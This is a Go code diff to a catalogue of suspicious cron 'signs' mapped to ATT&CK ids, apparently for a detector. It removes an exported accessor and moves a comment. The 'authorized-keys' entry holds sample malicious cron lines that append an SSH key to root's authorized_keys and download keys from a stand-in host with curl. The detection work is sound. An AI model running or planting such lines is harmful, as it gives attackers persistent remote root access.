@@ -13,10 +13,6 @@ type SignInfo struct {
 	False []string
 }
 
-// Catalogue lists all signs, in the order of their IDs. The ATT&CK ids are those of
-// version 15.
-func Catalogue() []SignInfo { return catalogue }
-
 func signInfo(id string) *SignInfo {
 	if i, ok := catalogueIndex[id]; ok {
 		return &catalogue[i]
@@ -32,6 +28,8 @@ var catalogueIndex = func() map[string]int {
 	return m
 }()
 
+// catalogue lists all signs, in the order of their IDs. The ATT&CK ids are those of
+// version 15.
 var catalogue = []SignInfo{
 	{ID: "authorized-keys", Title: "writes who may log in with a key", Severity: Critical, Attack: []string{"T1098.004"},
 		True:  []string{"@daily echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys", "@daily curl -so ~/.ssh/authorized_keys http://keys.example.org/k"},
